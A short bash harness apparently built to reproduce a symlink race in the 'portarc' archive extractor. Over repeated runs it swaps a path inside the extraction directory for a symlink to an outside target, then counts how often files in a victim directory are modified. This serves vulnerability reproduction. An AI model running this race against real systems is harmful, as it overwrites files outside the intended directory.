#!/bin/bash
# run.sh ARCHIVE SWAP_REL TARGET ATTEMPTS [HOLD_US] [extra portarc args...]
# Extract ARCHIVE into a fresh DEST while ./swap exchanges DEST/SWAP_REL with a symlink to TARGET.
A=$1; REL=$2; T=$3; K=$4; HOLD=${5:-0}; shift 5; EXTRA=("$@")
W=/tmp/race-repro; hits=0
for ((k=1;k<=K;k++)); do
  D=/tmp/race-dest; rm -rf $D; mkdir $D; ${VICTIM:-$W/victim.sh} ${VN:-0}
  python3 $W/snap.py /tmp/race-victim /tmp/race-repro/before.json
  $W/swap $D/$REL $T $HOLD $D/.evil ${WAITFOR:+$D/$WAITFOR} 2>/tmp/race-repro/swap.log & SP=$!
  ${EXTRACT:-node ${PORTARC_BIN:?set PORTARC_BIN to bin/portarc.js of the repository} extract -f $A -C $D} "${EXTRA[@]}" >/tmp/race-repro/out.log 2>&1; rc=$?
  kill $SP; wait $SP
  same=$(find $D -samefile /tmp/race-victim/hl/target 2>/dev/null | wc -l)
  python3 $W/snap.py /tmp/race-victim /tmp/race-repro/after.json
  if python3 $W/cmp.py /tmp/race-repro/before.json /tmp/race-repro/after.json > /tmp/race-repro/diff.log; then r=clean; else r=TOUCHED; hits=$((hits+1)); cp /tmp/race-repro/diff.log /tmp/race-repro/diff-hit-$k.log; fi
  echo "attempt $k rc=$rc $(cat /tmp/race-repro/swap.log) losses=$(grep -c 'not' /tmp/race-repro/out.log) $r $(wc -l < /tmp/race-repro/diff.log) inDEST-links-to-victim-hl/target=$same"
done
echo "HITS $hits/$K"
